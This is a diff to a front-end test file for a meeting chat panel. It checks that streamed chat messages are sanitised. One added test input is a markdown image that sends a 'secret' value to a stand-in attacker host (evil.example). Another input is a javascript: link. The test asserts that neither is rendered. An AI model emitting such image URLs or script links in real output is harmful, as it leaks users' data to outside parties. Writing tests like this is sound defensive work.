@@ -122,12 +122,16 @@ describe('MeetingChatPanel', () => {
     await waitFor(() => expect(socket.requests).toHaveLength(1));
     answer(
       '[START MSG]',
-      '[Deck](https://acme.example/deck) [Bad](javascript:alert(1)) <b>raw</b>',
+      '[Deck](https://acme.example/deck) [Bad](javascript:alert(1)) <b>raw</b> ',
+      '![the summary](https://evil.example/leak?d=secret)',
       '[END MSG]',
     );
     expect(screen.getByRole('link', { name: 'Deck' })).toHaveAttribute('href', 'https://acme.example/deck');
     expect(screen.getAllByRole('link')).toHaveLength(1);
     expect(document.querySelector('#meeting-chat b')).toBeNull();
+    // Images are never loaded: their words stay.
+    expect(document.querySelector('#meeting-chat img')).toBeNull();
+    expect(screen.getByText('the summary')).toBeInTheDocument();
   });
 
   it('shows an [ERR] frame as a red error bubble with the text after the marker', async () => {
